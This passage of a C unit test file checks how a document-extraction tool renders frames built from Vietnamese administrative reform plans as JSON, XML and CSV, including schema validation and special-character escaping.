/* test_emit.c: the emit stage and `cchc extract` / `cchc schema`.
 *
 * Unit tests build frames by hand (hard Vietnamese text with quotes,
 * commas, newlines, "<&>", nulls, 98.5, ranges) and check every format:
 * JSON holds the exact values and validates against the published JSON
 * Schema (with a small validator below, which also must reject broken
 * frames); XML validates against the published XSD and holds the same
 * content as the JSON; CSV parses back with libcsv; jsonl is one line.
 * CLI tests run the program on the real corpus and on batches with a bad
 * input, and check exit codes and atomic output files. */
#define _GNU_SOURCE
#include "harness.h"

#include "../emit/emit.h"
#include "../extract/frame.h"

#include <csv.h>
#include <dirent.h>
#include <jansson.h>
#include <libxml/parser.h>
#include <libxml/tree.h>
#include <libxml/xmlschemas.h>
#include <math.h>
#include <openssl/evp.h>
#include <pthread.h>
#include <regex.h>
#include <stdarg.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* ------------------------------------------------------------------ */
/* A hand-built frame                                                  */

static const char HARD_PATH[] = "dữ liệu/kế hoạch, \"số 1\"\n<2026>&.txt";
static const char HARD_TITLE[] =
    "Kế hoạch Cải cách hành chính năm 2026 của xã \"Nghĩa Trung\", "
    "tỉnh Đồng Nai <&>";
static const char HARD_TEXT[] =
    "Tỷ lệ hồ sơ \"đúng hạn\", đạt tối thiểu 98,5%;\n"
    "không <thấp> hơn & \"cao\" hơn năm 2025";
static const char RANGE_TEXT[] = "từ 95% - 100% hồ sơ, \"một cửa\" 'liên thông'";
static const char COUNT_TEXT[] = "02 hoạt động\r\ntuyên truyền, \"CCHC\"";
static const char SHA[] =
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

static frame_field field(cchc_frame *f, const char *value, size_t s, size_t e,
                         const char *rule) {
  frame_field x = {frame_strdup(f, value), {s, e}, frame_strdup(f, rule)};
  return x;
}

static frame_unit unit(cchc_frame *f, const char *key, const char *name,
                       const char *text, size_t s, size_t e) {
  frame_unit u = {frame_strdup(f, key), frame_strdup(f, name),
                  frame_strdup(f, text), {s, e}};
  return u;
}

static cchc_frame *hand_frame(void) {
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  f->path = frame_strdup(f, HARD_PATH);
  memcpy(f->sha256, SHA, sizeof SHA);
  f->bytes = 31479;
  f->encoding = frame_strdup(f, "utf-8");
  f->repairs = 7;

  frame_document *d = &f->document;
  d->kind = field(f, "ke_hoach", 0, 8, "doc.kind");
  d->level = field(f, "commune", 20, 30, "doc.level");
  d->place = field(f, "Nghĩa Trung", 31, 44, "doc.place");
  d->province = field(f, "Đồng Nai", 300, 310, "doc.province");
  d->year = field(f, "2026", 60, 64, "doc.year");
  d->period_start = field(f, "2026-01-01", 60, 64, "doc.period");
  d->period_end = field(f, "2026-12-31", 60, 64, "doc.period");
  d->title = field(f, HARD_TITLE, 40, 120, "doc.title");
  d->parent_number = field(f, "228/KH-UBND", 200, 211, "doc.parent");
  d->parent_date = field(f, "2026-01-25", 217, 227, "doc.parent");
  /* number, date, signer: unknown */

  frame_reference *r = FRAME_PUSH(f, references);
  r->number = frame_strdup(f, "76/NQ-CP");
  r->kind = frame_strdup(f, "nghi_quyet");
  r->date = frame_strdup(f, "2022-07-15");
  r->issuer = frame_strdup(f, "Chính phủ");
  r->span = (frame_span){100, 108};
  r->rule = frame_strdup(f, "ref.number");
  r->mentions = malloc(2 * sizeof *r->mentions);
  ck_assert_ptr_nonnull(r->mentions);
  r->mentions[0] = (frame_span){100, 108};
  r->mentions[1] = (frame_span){900, 908};
  r->nmentions = r->cap_mentions = 2;
  r = FRAME_PUSH(f, references);
  r->number = frame_strdup(f, "118/2025/NĐ-CP");
  r->kind = frame_strdup(f, "nghi_dinh");
  r->span = (frame_span){400, 416};
  r->rule = frame_strdup(f, "ref.number");
  r->mentions = malloc(sizeof *r->mentions);
  ck_assert_ptr_nonnull(r->mentions);
  r->mentions[0] = (frame_span){400, 416};
  r->nmentions = r->cap_mentions = 1;

  frame_section *s = FRAME_PUSH(f, sections);
  s->id = frame_strdup(f, "s1");
  s->number = frame_strdup(f, "I.");
  s->heading = frame_strdup(f, "MỤC TIÊU, YÊU CẦU");
  s->level = 1;
  s->parent = -1;
  s->span = (frame_span){500, 530};
  s->rule = frame_strdup(f, "section.roman");
  s = FRAME_PUSH(f, sections);
  s->id = frame_strdup(f, "s2");
  s->number = frame_strdup(f, "1.");
  s->heading = frame_strdup(f, "Cải cách thủ tục hành chính");
  s->area = frame_strdup(f, "tthc");
  s->level = 2;
  s->parent = 0;
  s->span = (frame_span){531, 570};
  s->rule = frame_strdup(f, "section.arabic");
  s = FRAME_PUSH(f, sections);
  s->id = frame_strdup(f, "s3");
  s->number = frame_strdup(f, "a)");
  s->heading = frame_strdup(f, "Một cửa <&> \"liên thông\",\nhiện đại");
  s->area = frame_strdup(f, "tthc");
  s->level = 3;
  s->parent = 1;
  s->span = (frame_span){571, 600};
  s->rule = frame_strdup(f, "section.letter");

  frame_target *t = FRAME_PUSH(f, targets);
  t->id = frame_strdup(f, "t1");
  t->section = 1;
  t->area = frame_strdup(f, "tthc");
  t->indicator = frame_strdup(f, "tthc.dung_han");
  t->subject = frame_strdup(f, "hồ sơ \"đúng hạn\"");
  t->text = frame_strdup(f, HARD_TEXT);
  t->comparator = frame_strdup(f, ">=");
  t->value = 98.5;
  t->unit = frame_strdup(f, "%");
  t->span = (frame_span){610, 640};
  t->rule = frame_strdup(f, "target.percent");
  t = FRAME_PUSH(f, targets);
  t->id = frame_strdup(f, "t2");
  t->section = 2;
  t->area = frame_strdup(f, "tthc");
  t->text = frame_strdup(f, RANGE_TEXT);
  t->comparator = frame_strdup(f, "range");
  t->value = 95;
  t->value_max = 100;
  t->has_value_max = true;
  t->unit = frame_strdup(f, "%");
  t->span = (frame_span){650, 665};
  t->rule = frame_strdup(f, "target.range");
  t = FRAME_PUSH(f, targets);
  t->id = frame_strdup(f, "t3");
  t->section = -1;
  t->subject = frame_strdup(f, ""); /* empty, not null */
  t->text = frame_strdup(f, COUNT_TEXT);
  t->comparator = frame_strdup(f, "=");
  t->value = 2;
  t->unit = frame_strdup(f, "count");
  t->span = (frame_span){700, 712};
  t->rule = frame_strdup(f, "target.count");

  frame_deadline *dl = FRAME_PUSH(f, deadlines);
  dl->id = frame_strdup(f, "d1");
  dl->text = frame_strdup(f, "trước ngày 30/01/2026");
  dl->kind = frame_strdup(f, "date");
  dl->end = frame_strdup(f, "2026-01-30");
  dl->span = (frame_span){800, 825};
  dl->rule = frame_strdup(f, "deadline.date");
  dl = FRAME_PUSH(f, deadlines);
  dl->id = frame_strdup(f, "d2");
  dl->text = frame_strdup(f, "hằng quý");
  dl->kind = frame_strdup(f, "recurring");
  dl->recurrence = frame_strdup(f, "quarterly");
  dl->year_inferred = true;
  dl->span = (frame_span){830, 840};
  dl->rule = frame_strdup(f, "deadline.recurring");

  frame_task *k = FRAME_PUSH(f, tasks);
  k->id = frame_strdup(f, "k1");
  k->section = 1;
  k->area = frame_strdup(f, "tthc");
  k->text = frame_strdup(f, "Rà soát, đơn giản hóa \"TTHC\"\nvà <báo cáo>");
  k->lead = frame_alloc(f, sizeof *k->lead);
  k->lead[0] = unit(f, "vp_hdnd_ubnd", "Văn phòng HĐND và UBND",
                    "Văn phòng HĐND & UBND xã", 850, 880);
  k->nlead = 1;
  k->coordinators = frame_alloc(f, 2 * sizeof *k->coordinators);
  k->coordinators[0] = unit(f, NULL, "name:Trung tâm Chuyển đổi số tỉnh",
                            "Trung tâm \"Chuyển đổi số\" tỉnh", 881, 900);
  k->coordinators[1] = unit(f, "cong_an", "Công an xã", "Công an xã", 901, 915);
  k->ncoordinators = 2;
  k->deadline = 0;
  k->products = frame_strdup(f, "Báo cáo, kế hoạch");
  k->target = 0;
  k->span = (frame_span){845, 920};
  k->rule = frame_strdup(f, "task.bullet");
  k = FRAME_PUSH(f, tasks);
  k->id = frame_strdup(f, "k2");
  k->section = -1;
  k->text = frame_strdup(f, "Thường xuyên");
  k->lead_from = frame_strdup(f, "area");
  k->deadline = -1;
  k->target = -1;
  k->span = (frame_span){930, 942};
  k->rule = frame_strdup(f, "task.row");

  frame_lead *l = FRAME_PUSH(f, leads);
  l->area = frame_strdup(f, "the_che");
  l->unit = unit(f, "tu_phap", "Công chức Tư pháp - Hộ tịch", "Tư pháp", 950,
                 957);
  l->text = frame_strdup(f, "Chủ trì triển khai nội dung cải cách thể chế");
  l->span = (frame_span){945, 1000};
  l->rule = frame_strdup(f, "lead.area");

  frame_inconsistency *c = FRAME_PUSH(f, inconsistencies);
  c->indicator = frame_strdup(f, "tthc.dung_han");
  c->first = 0;
  c->second = 1;
  ck_assert(!f->failed);
  return f;
}

/* ------------------------------------------------------------------ */
/* Helpers                                                             */

static char *root_file(const char *rel, size_t *len) {
  char path[4200];
  snprintf(path, sizeof path, "%s/%s", harness_root(), rel);
  char *data = harness_read(path, len);
  ck_assert_msg(data != NULL, "cannot read %s", path);
  return data;
}

static char *render(const cchc_frame *f, cchc_format fmt, unsigned flags,
                    size_t *len) {
  char *out = NULL;
  size_t n = 0;
  cchc_error err = {0};
  cchc_status st = cchc_render(f, fmt, flags, &out, &n, &err);
  ck_assert_msg(st == CCHC_OK, "render failed: %s", err.message);
  ck_assert_ptr_nonnull(out);
  ck_assert_uint_eq(n, strlen(out));
  if (len)
    *len = n;
  return out;
}

static json_t *parse_json(const char *text) {
  json_error_t je;
  json_t *j = json_loads(text, 0, &je);
  ck_assert_msg(j != NULL, "invalid JSON at line %d: %s", je.line, je.text);
  return j;
}

/* Value at a path like "targets/0/value" ("" is the root); NULL if absent. */
static json_t *jat(json_t *j, const char *path) {
  char buf[256];
  snprintf(buf, sizeof buf, "%s", path);
  char *save = NULL;
  for (char *tok = strtok_r(buf, "/", &save); tok && j;
       tok = strtok_r(NULL, "/", &save)) {
    if (json_is_array(j))
      j = json_array_get(j, strtoul(tok, NULL, 10));
    else
      j = json_object_get(j, tok);
  }
  return j;
}

static void assert_jstr(json_t *root, const char *path, const char *want) {
  json_t *v = jat(root, path);
  ck_assert_msg(json_is_string(v), "%s: not a string", path);
  ck_assert_msg(strcmp(json_string_value(v), want) == 0,
                "%s: [%s], want [%s]", path, json_string_value(v), want);
}

static void assert_jnull(json_t *root, const char *path) {
  json_t *v = jat(root, path);
  ck_assert_msg(v != NULL, "%s: missing", path);
  ck_assert_msg(json_is_null(v), "%s: not null", path);
}

static void assert_jint(json_t *root, const char *path, long long want) {
  json_t *v = jat(root, path);
  ck_assert_msg(json_is_integer(v), "%s: not an integer", path);
  ck_assert_msg(json_integer_value(v) == want, "%s: %lld, want %lld", path,
                (long long)json_integer_value(v), want);
}

static void assert_jspan(json_t *root, const char *path, long long s,
                         long long e) {
  json_t *v = jat(root, path);
  ck_assert_msg(json_is_array(v) && json_array_size(v) == 2,
                "%s: not a span", path);
  ck_assert_msg(json_integer_value(json_array_get(v, 0)) == s &&
                    json_integer_value(json_array_get(v, 1)) == e,
                "%s: wrong span", path);
}

/* ------------------------------------------------------------------ */
/* A JSON Schema validator for the keywords the published schema uses.
 * It refuses any other keyword, so the schema cannot silently rely on
 * something this validator ignores. */

typedef struct jsv {
  json_t *root;
  int errors;
  char msg[4096];
} jsv;

static void jsv_fail(jsv *v, const char *path, const char *fmt, ...) {
  v->errors++;
  size_t used = strlen(v->msg);
  if (used + 200 > sizeof v->msg)
    return;
  va_list ap;
  va_start(ap, fmt);
  snprintf(v->msg + used, sizeof v->msg - used, "%s: ", *path ? path : "/");
  used = strlen(v->msg);
  vsnprintf(v->msg + used, sizeof v->msg - used, fmt, ap);
  used = strlen(v->msg);
  snprintf(v->msg + used, sizeof v->msg - used, "\n");
  va_end(ap);
}

static bool jsv_type(json_t *inst, const char *type) {
  if (!strcmp(type, "null"))
    return json_is_null(inst);
  if (!strcmp(type, "boolean"))
    return json_is_boolean(inst);
  if (!strcmp(type, "object"))
    return json_is_object(inst);
  if (!strcmp(type, "array"))
    return json_is_array(inst);
  if (!strcmp(type, "string"))
    return json_is_string(inst);
  if (!strcmp(type, "number"))
    return json_is_number(inst);
  if (!strcmp(type, "integer"))
    return json_is_integer(inst) ||
           (json_is_real(inst) &&
            json_real_value(inst) == floor(json_real_value(inst)));
  ck_abort_msg("schema: unknown type name '%s'", type);
  return false;
}

static void jsv_check(jsv *v, json_t *schema, json_t *inst, const char *path);

static void jsv_check(jsv *v, json_t *schema, json_t *inst, const char *path) {
  static const char *const known[] = {
      "$schema", "$id",   "$defs",   "title",    "description",
      "type",    "enum",  "const",   "properties", "required",
      "additionalProperties", "items", "minItems", "maxItems",
      "minimum", "pattern", "$ref"};
  ck_assert_msg(json_is_object(schema), "%s: schema is not an object", path);
  const char *kw;
  json_t *arg;
  json_object_foreach(schema, kw, arg) {
    bool ok = false;
    for (size_t i = 0; i < sizeof known / sizeof *known; i++)
      ok = ok || !strcmp(kw, known[i]);
    ck_assert_msg(ok, "schema uses keyword '%s', which the test validator "
                      "does not implement", kw);
  }
  char sub[512];
  if ((arg = json_object_get(schema, "$ref"))) {
    const char *ref = json_string_value(arg);
    ck_assert_msg(ref && !strncmp(ref, "#/$defs/", 8), "unsupported $ref");
    json_t *target = json_object_get(json_object_get(v->root, "$defs"), ref + 8);
    ck_assert_msg(target != NULL, "dangling $ref %s", ref);
    jsv_check(v, target, inst, path);
  }
  if ((arg = json_object_get(schema, "type"))) {
    bool ok = false;
    if (json_is_string(arg)) {
      ok = jsv_type(inst, json_string_value(arg));
    } else {
      size_t i;
      json_t *t;
      json_array_foreach(arg, i, t) ok = ok || jsv_type(inst, json_string_value(t));
    }
    if (!ok) {
      char *want = json_dumps(arg, JSON_ENCODE_ANY | JSON_COMPACT);
      jsv_fail(v, path, "wrong type, want %s", want);
      free(want);
      return;
    }
  }
  if ((arg = json_object_get(schema, "enum"))) {
    bool ok = false;
    size_t i;
    json_t *e;
    json_array_foreach(arg, i, e) ok = ok || json_equal(e, inst);
    if (!ok)
      jsv_fail(v, path, "value not in enum");
  }
  if ((arg = json_object_get(schema, "const")) && !json_equal(arg, inst))
    jsv_fail(v, path, "value differs from const");
  if (json_is_object(inst)) {
    json_t *props = json_object_get(schema, "properties");
    if ((arg = json_object_get(schema, "required"))) {
      size_t i;
      json_t *name;
      json_array_foreach(arg, i, name) if (!json_object_get(
          inst, json_string_value(name)))
          jsv_fail(v, path, "required property '%s' missing",
                   json_string_value(name));
    }
    json_t *addl = json_object_get(schema, "additionalProperties");
    const char *key;
    json_t *val;
    json_object_foreach(inst, key, val) {
      snprintf(sub, sizeof sub, "%s/%s", path, key);
      json_t *ps = props ? json_object_get(props, key) : NULL;
      if (ps)
        jsv_check(v, ps, val, sub);
      else if (json_is_false(addl))
        jsv_fail(v, sub, "property not allowed");
      else if (json_is_object(addl))
        jsv_check(v, addl, val, sub);
    }
  }
  if (json_is_array(inst)) {
    size_t n = json_array_size(inst);
    if ((arg = json_object_get(schema, "minItems")) &&
        n < (size_t)json_integer_value(arg))
      jsv_fail(v, path, "fewer than %lld items",
               (long long)json_integer_value(arg));
    if ((arg = json_object_get(schema, "maxItems")) &&
        n > (size_t)json_integer_value(arg))
      jsv_fail(v, path, "more than %lld items",
               (long long)json_integer_value(arg));
    if ((arg = json_object_get(schema, "items"))) {
      size_t i;
      json_t *item;
      json_array_foreach(inst, i, item) {
        snprintf(sub, sizeof sub, "%s/%zu", path, i);
        jsv_check(v, arg, item, sub);
      }
    }
  }
  if (json_is_number(inst) && (arg = json_object_get(schema, "minimum")) &&
      json_number_value(inst) < json_number_value(arg))
    jsv_fail(v, path, "below the minimum");
  if (json_is_string(inst) && (arg = json_object_get(schema, "pattern"))) {
    regex_t re;
    ck_assert_int_eq(regcomp(&re, json_string_value(arg),
                             REG_EXTENDED | REG_NOSUB),
                     0);
    if (regexec(&re, json_string_value(inst), 0, NULL, 0) != 0)
      jsv_fail(v, path, "does not match %s", json_string_value(arg));
    regfree(&re);
  }
}

static json_t *json_schema(void) {
  char *text = root_file("emit/schema/frame.schema.json", NULL);
  json_t *s = parse_json(text);
  free(text);
  return s;
}

/* Number of violations of the published schema; messages in msg. */
static int schema_errors(json_t *inst, char *msg, size_t cap) {
  jsv v = {.root = json_schema()};
  jsv_check(&v, v.root, inst, "");
  json_decref(v.root);
  if (msg)
    snprintf(msg, cap, "%s", v.msg);
  return v.errors;
}

static void assert_schema_valid(json_t *inst, const char *what) {
  char msg[4096];
  int n = schema_errors(inst, msg, sizeof msg);
  ck_assert_msg(n == 0, "%s: %d schema violations:\n%s", what, n, msg);
}

/* ------------------------------------------------------------------ */
/* XSD validation with libxml2                                         */

typedef struct xerrs {
  int n;
  char msg[4096];
} xerrs;

static void xerr_cb(void *ctx, const xmlError *e) {
  xerrs *x = ctx;
  x->n++;
  size_t used = strlen(x->msg);
  if (used + 300 < sizeof x->msg)
    snprintf(x->msg + used, sizeof x->msg - used, "line %d: %s", e->line,
             e->message ? e->message : "?\n");
}

/* 0 when `doc` validates against emit/schema/frame.xsd; messages in *x. */
static int xsd_validate_doc(xmlDoc *doc, xerrs *x) {
  size_t len;
  char *xsd = root_file("emit/schema/frame.xsd", &len);
  xmlSchemaParserCtxtPtr pc = xmlSchemaNewMemParserCtxt(xsd, (int)len);
  ck_assert_ptr_nonnull(pc);
  xmlSchemaPtr schema = xmlSchemaParse(pc);
  ck_assert_msg(schema != NULL, "the XSD does not parse");
  xmlSchemaValidCtxtPtr vc = xmlSchemaNewValidCtxt(schema);
  ck_assert_ptr_nonnull(vc);
  memset(x, 0, sizeof *x);
  xmlSchemaSetValidStructuredErrors(vc, (xmlStructuredErrorFunc)xerr_cb, x);
  int rc = xmlSchemaValidateDoc(vc, doc);
  xmlSchemaFreeValidCtxt(vc);
  xmlSchemaFree(schema);
  xmlSchemaFreeParserCtxt(pc);
  free(xsd);
  return rc;
}

static xmlDoc *parse_xml(const char *text, size_t len) {
  xmlDoc *doc = xmlReadMemory(text, (int)len, "frame.xml", NULL, XML_PARSE_NONET);
  ck_assert_msg(doc != NULL, "XML does not parse");
  return doc;
}

static void assert_xsd_valid(xmlDoc *doc, const char *what) {
  xerrs x;
  int rc = xsd_validate_doc(doc, &x);
  ck_assert_msg(rc == 0, "%s: XML does not validate against the XSD:\n%s",
                what, x.msg);
}

static xmlNode *first_element(xmlNode *n) {
  while (n && n->type != XML_ELEMENT_NODE)
    n = n->next;
  return n;
}

static xmlNode *child(xmlNode *n, const char *name) {
  for (xmlNode *c = first_element(n->children); c;
       c = first_element(c->next))
    if (!strcmp((const char *)c->name, name))
      return c;
  return NULL;
}

static char *content(xmlNode *n) { return (char *)xmlNodeGetContent(n); }

static long long attr_ll(xmlNode *n, const char *name) {
  xmlChar *v = xmlGetProp(n, BAD_CAST name);
  ck_assert_msg(v != NULL, "<%s> has no attribute %s", n->name, name);
  long long r = strtoll((const char *)v, NULL, 10);
  xmlFree(v);
  return r;
}

/* The XML element `el` holds the same content as the JSON value `j`:
 * fields in the same order, nulls omitted, arrays as children, spans as
 * start/end attributes, the root's "schema" as an attribute. */
static void xml_same_as_json(xmlNode *el, json_t *j, const char *path,
                             bool root) {
  char sub[512];
  if (json_is_object(j)) {
    xmlNode *c = first_element(el->children);
    const char *key;
    json_t *val;
    json_object_foreach(j, key, val) {
      snprintf(sub, sizeof sub, "%s/%s", path, key);
      if (root && !strcmp(key, "schema")) {
        xmlChar *a = xmlGetProp(el, BAD_CAST "schema");
        ck_assert_msg(a && !strcmp((char *)a, json_string_value(val)),
                      "root attribute schema");
        xmlFree(a);
        continue;
      }
      if (json_is_null(val))
        continue;
      ck_assert_msg(c != NULL, "%s: no XML element", sub);
      ck_assert_msg(!strcmp((const char *)c->name, key),
                    "%s: XML has <%s> instead", sub, c->name);
      xml_same_as_json(c, val, sub, false);
      c = first_element(c->next);
    }
    ck_assert_msg(c == NULL, "%s: XML has extra <%s>", path,
                  c ? (const char *)c->name : "");
  } else if (json_is_array(j)) {
    if (xmlHasProp(el, BAD_CAST "start")) {
      ck_assert_msg(json_array_size(j) == 2, "%s: span", path);
      ck_assert_msg(attr_ll(el, "start") ==
                            json_integer_value(json_array_get(j, 0)) &&
                        attr_ll(el, "end") ==
                            json_integer_value(json_array_get(j, 1)),
                    "%s: span differs", path);
      ck_assert_ptr_null(first_element(el->children));
      return;
    }
    xmlNode *c = first_element(el->children);
    size_t i;
    json_t *item;
    json_array_foreach(j, i, item) {
      snprintf(sub, sizeof sub, "%s/%zu", path, i);
      ck_assert_msg(c != NULL, "%s: missing in XML", sub);
      xml_same_as_json(c, item, sub, false);
      c = first_element(c->next);
    }
    ck_assert_msg(c == NULL, "%s: XML has more items", path);
  } else {
    ck_assert_msg(first_element(el->children) == NULL,
                  "%s: scalar with child elements", path);
    char *text = content(el);
    ck_assert_ptr_nonnull(text);
    if (json_is_string(j))
      ck_assert_msg(!strcmp(text, json_string_value(j)),
                    "%s: XML [%s], JSON [%s]", path, text,
                    json_string_value(j));
    else if (json_is_integer(j))
      ck_assert_msg(strtoll(text, NULL, 10) == json_integer_value(j) &&
                        !strchr(text, '.'),
                    "%s: XML %s, JSON %lld", path, text,
                    (long long)json_integer_value(j));
    else if (json_is_real(j))
      ck_assert_msg(strtod(text, NULL) == json_real_value(j),
                    "%s: XML %s, JSON %g", path, text, json_real_value(j));
    else if (json_is_boolean(j))
      ck_assert_msg(!strcmp(text, json_is_true(j) ? "true" : "false"),
                    "%s: XML %s", path, text);
    else
      ck_abort_msg("%s: unexpected JSON type", path);
    xmlFree(text);
  }
}

/* ------------------------------------------------------------------ */
/* CSV parsing with libcsv                                             */

typedef struct csv_row {
  char **f; /* NULL entries: empty unquoted fields (null) */
  size_t n;
} csv_row;

typedef struct csv_table {
  csv_row *rows;
  size_t n, cap;
  csv_row cur;
} csv_table;

static void csv_cb_field(void *s, size_t len, void *data) {
  csv_table *t = data;
  t->cur.f = realloc(t->cur.f, (t->cur.n + 1) * sizeof *t->cur.f);
  t->cur.f[t->cur.n++] = s ? strndup(s, len) : NULL;
}

static void csv_cb_row(int c, void *data) {
  csv_table *t = data;
  if (t->n == t->cap)
    t->rows = realloc(t->rows, (t->cap = t->cap ? t->cap * 2 : 16) *
                                   sizeof *t->rows);
  t->rows[t->n++] = t->cur;
  memset(&t->cur, 0, sizeof t->cur);
}

static csv_table csv_read(const char *text, size_t len) {
  struct csv_parser p;
  ck_assert_int_eq(csv_init(&p, CSV_STRICT | CSV_STRICT_FINI |
                                    CSV_EMPTY_IS_NULL | CSV_APPEND_NULL),
                   0);
  csv_table t = {0};
  size_t used = csv_parse(&p, text, len, csv_cb_field, csv_cb_row, &t);
  ck_assert_msg(used == len, "CSV parse error at byte %zu: %s", used,
                csv_strerror(csv_error(&p)));
  ck_assert_int_eq(csv_fini(&p, csv_cb_field, csv_cb_row, &t), 0);
  csv_free(&p);
  return t;
}

static void csv_table_free(csv_table *t) {
  for (size_t i = 0; i < t->n; i++) {
    for (size_t k = 0; k < t->rows[i].n; k++)
      free(t->rows[i].f[k]);
    free(t->rows[i].f);
  }
  free(t->rows);
}

static const char *const CSV_HEADER[] = {
    "source_path", "place",      "year",      "target_id",
    "section_number", "area",    "indicator", "subject",
    "comparator",  "value",      "value_max", "unit",
    "text",        "span_start", "span_end",  "rule"};
enum { NCSV = sizeof CSV_HEADER / sizeof *CSV_HEADER };

static void assert_field(const csv_row *r, size_t col, const char *want) {
  ck_assert_uint_eq(r->n, NCSV);
  if (!want) {
    ck_assert_msg(r->f[col] == NULL, "column %s: [%s], want null",
                  CSV_HEADER[col], r->f[col]);
    return;
  }
  ck_assert_msg(r->f[col] != NULL, "column %s: null, want [%s]",
                CSV_HEADER[col], want);
  ck_assert_msg(!strcmp(r->f[col], want), "column %s: [%s], want [%s]",
                CSV_HEADER[col], r->f[col], want);
}

static bool is_header(const csv_row *r) {
  if (r->n != NCSV)
    return false;
  for (size_t i = 0; i < NCSV; i++)
    if (!r->f[i] || strcmp(r->f[i], CSV_HEADER[i]))
      return false;
  return true;
}

static size_t count_substr(const char *s, size_t len, const char *needle) {
  size_t n = 0, nl = strlen(needle);
  for (const char *p = s; (p = memmem(p, len - (size_t)(p - s), needle, nl));
       p += nl)
    n++;
  return n;
}

static const char BOM[] = "\xEF\xBB\xBF";

/* ------------------------------------------------------------------ */
/* Unit tests: JSON                                                    */

START_TEST(json_exact_values) {
  cchc_frame *f = hand_frame();
  size_t len;
  char *out = render(f, CCHC_FORMAT_JSON, 0, &len);
  ck_assert_int_eq(out[len - 1], '\n');
  /* Vietnamese stays readable, 98.5 and 2 are printed as such. */
  ck_assert_msg(strstr(out, "\\u") == NULL, "escaped non-ASCII:\n%s", out);
  ck_assert_ptr_nonnull(strstr(out, "Nghĩa Trung"));
  ck_assert_ptr_nonnull(strstr(out, "\"value\": 98.5,"));
  ck_assert_ptr_nonnull(strstr(out, "\"value\": 2,"));
  ck_assert_ptr_nonnull(strstr(out, "\"year\": 2026,"));
  json_t *j = parse_json(out);

  assert_jstr(j, "schema", "cchc/1");
  assert_jstr(j, "source/path", HARD_PATH);
  assert_jstr(j, "source/sha256", SHA);
  assert_jint(j, "source/bytes", 31479);
  assert_jstr(j, "source/encoding", "utf-8");
  assert_jint(j, "source/repairs", 7);

  assert_jstr(j, "document/kind", "ke_hoach");
  assert_jstr(j, "document/level", "commune");
  assert_jstr(j, "document/place", "Nghĩa Trung");
  assert_jstr(j, "document/province", "Đồng Nai");
  assert_jint(j, "document/year", 2026);
  assert_jstr(j, "document/period/start", "2026-01-01");
  assert_jstr(j, "document/period/end", "2026-12-31");
  assert_jnull(j, "document/number");
  assert_jnull(j, "document/date");
  assert_jstr(j, "document/title", HARD_TITLE);
  assert_jnull(j, "document/signer");
  assert_jstr(j, "document/parent/number", "228/KH-UBND");
  assert_jstr(j, "document/parent/date", "2026-01-25");
  assert_jspan(j, "document/provenance/kind/span", 0, 8);
  assert_jstr(j, "document/provenance/kind/rule", "doc.kind");
  assert_jspan(j, "document/provenance/title/span", 40, 120);
  assert_jstr(j, "document/provenance/parent_date/rule", "doc.parent");
  ck_assert_ptr_null(jat(j, "document/provenance/signer"));
  ck_assert_ptr_null(jat(j, "document/provenance/number"));
  ck_assert_uint_eq(json_object_size(jat(j, "document/provenance")), 10);

  ck_assert_uint_eq(json_array_size(jat(j, "references")), 2);
  assert_jstr(j, "references/0/number", "76/NQ-CP");
  assert_jstr(j, "references/0/kind", "nghi_quyet");
  assert_jstr(j, "references/0/date", "2022-07-15");
  assert_jstr(j, "references/0/issuer", "Chính phủ");
  assert_jspan(j, "references/0/span", 100, 108);
  assert_jstr(j, "references/0/rule", "ref.number");
  ck_assert_uint_eq(json_array_size(jat(j, "references/0/mentions")), 2);
  assert_jspan(j, "references/0/mentions/1", 900, 908);
  assert_jstr(j, "references/1/number", "118/2025/NĐ-CP");
  assert_jnull(j, "references/1/date");
  assert_jnull(j, "references/1/issuer");

  ck_assert_uint_eq(json_array_size(jat(j, "sections")), 3);
  assert_jstr(j, "sections/0/id", "s1");
  assert_jnull(j, "sections/0/parent");
  assert_jnull(j, "sections/0/area");
  assert_jstr(j, "sections/1/parent", "s1");
  assert_jstr(j, "sections/2/parent", "s2");
  assert_jstr(j, "sections/2/heading", "Một cửa <&> \"liên thông\",\nhiện đại");
  assert_jint(j, "sections/2/level", 3);
  assert_jspan(j, "sections/2/span", 571, 600);
  assert_jstr(j, "sections/2/rule", "section.letter");

  ck_assert_uint_eq(json_array_size(jat(j, "targets")), 3);
  assert_jstr(j, "targets/0/id", "t1");
  assert_jstr(j, "targets/0/section", "s2");
  assert_jstr(j, "targets/0/area", "tthc");
  assert_jstr(j, "targets/0/indicator", "tthc.dung_han");
  assert_jstr(j, "targets/0/subject", "hồ sơ \"đúng hạn\"");
  assert_jstr(j, "targets/0/text", HARD_TEXT);
  assert_jstr(j, "targets/0/comparator", ">=");
  ck_assert(json_is_real(jat(j, "targets/0/value")));
  ck_assert(json_real_value(jat(j, "targets/0/value")) == 98.5);
  assert_jnull(j, "targets/0/value_max");
  assert_jstr(j, "targets/0/unit", "%");
  assert_jspan(j, "targets/0/span", 610, 640);
  assert_jstr(j, "targets/0/rule", "target.percent");
  assert_jstr(j, "targets/1/section", "s3");
  assert_jnull(j, "targets/1/indicator");
  assert_jnull(j, "targets/1/subject");
  assert_jstr(j, "targets/1/comparator", "range");
  assert_jint(j, "targets/1/value", 95);
  assert_jint(j, "targets/1/value_max", 100);
  assert_jstr(j, "targets/1/text", RANGE_TEXT);
  assert_jnull(j, "targets/2/section");
  assert_jnull(j, "targets/2/area");
  assert_jstr(j, "targets/2/subject", "");
  assert_jint(j, "targets/2/value", 2);
  assert_jstr(j, "targets/2/unit", "count");
  assert_jstr(j, "targets/2/text", COUNT_TEXT);

  assert_jstr(j, "deadlines/0/id", "d1");
  assert_jstr(j, "deadlines/0/kind", "date");
  assert_jnull(j, "deadlines/0/start");
  assert_jstr(j, "deadlines/0/end", "2026-01-30");
  assert_jnull(j, "deadlines/0/recurrence");
  ck_assert(json_is_false(jat(j, "deadlines/0/year_inferred")));
  assert_jstr(j, "deadlines/1/recurrence", "quarterly");
  ck_assert(json_is_true(jat(j, "deadlines/1/year_inferred")));

  assert_jstr(j, "tasks/0/id", "k1");
  assert_jstr(j, "tasks/0/section", "s2");
  assert_jstr(j, "tasks/0/text", "Rà soát, đơn giản hóa \"TTHC\"\nvà <báo cáo>");
  ck_assert_uint_eq(json_array_size(jat(j, "tasks/0/lead")), 1);
  assert_jstr(j, "tasks/0/lead/0/key", "vp_hdnd_ubnd");
  assert_jstr(j, "tasks/0/lead/0/name", "Văn phòng HĐND và UBND");
